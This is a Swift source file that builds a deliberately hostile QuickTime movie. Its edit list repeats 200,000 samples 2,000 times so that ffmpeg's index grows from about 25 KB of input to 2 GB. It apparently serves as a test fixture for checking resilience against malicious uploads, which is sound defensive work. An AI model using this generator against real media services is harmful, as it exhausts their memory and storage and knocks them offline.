/// A movie that plays all of its samples again and again. ffmpeg makes an index of every repetition: 25 KB become 2 GB.
package enum HostileMovie {
    /// The film's bytes. It has the type video/quicktime.
    package static func bytes(samples: UInt32 = 200_000, edits: Int = 2000) -> [UInt8] {
        box("ftyp", Array("qt  ".utf8), [0, 0, 2, 0]) + box("mdat", zeros(1000)) + index(samples, edits)
    }

    private static func index(_ samples: UInt32, _ edits: Int) -> [UInt8] {
        let matrix = numbers(0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x4000_0000)
        let header = zeros(12) + numbers(25, samples, 0x10000) + [1, 0] + zeros(10) + matrix + zeros(28)
        let track =
            [0, 0, 0, 15] + zeros(8) + numbers(1, 0, samples) + zeros(16) + matrix + numbers(640 << 16, 480 << 16)
        let edit = numbers(samples, 0, 0x10000)
        let list = zeros(4) + numbers(UInt32(edits)) + (0..<edits).flatMap { _ in edit }
        let media =
            box("mdhd", zeros(12), numbers(25, samples), zeros(4))
            + box("hdlr", zeros(4), Array("mhlrvide".utf8), zeros(13))
            + box("minf", box("vmhd", zeros(12)), table(samples))
        return box(
            "moov",
            box("mvhd", header),
            box("trak", box("tkhd", track), box("edts", box("elst", list)), box("mdia", media))
        )
    }

    /// A table of one-byte samples, all in one chunk.
    private static func table(_ samples: UInt32) -> [UInt8] {
        let picture: [UInt8] = zeros(6) + [0, 1] + zeros(16) + [2, 128, 1, 224] + zeros(50)
        return box(
            "stbl",
            box("stsd", zeros(4), numbers(1), box("apcn", picture)),
            box("stts", zeros(4), numbers(1, samples, 1)),
            box("stsc", zeros(4), numbers(1, 1, samples, 1)),
            box("stsz", zeros(4), numbers(1, samples)),
            box("stco", zeros(4), numbers(1, 28))
        )
    }

    private static func box(_ name: String, _ parts: [UInt8]...) -> [UInt8] {
        let body = Array(parts.joined())
        return numbers(UInt32(body.count + 8)) + Array(name.utf8) + body
    }

    private static func zeros(_ count: Int) -> [UInt8] { [UInt8](repeating: 0, count: count) }

    private static func numbers(_ numbers: UInt32...) -> [UInt8] {
        numbers.flatMap { number in [24, 16, 8, 0].map { UInt8(truncatingIfNeeded: number >> $0) } }
    }
}
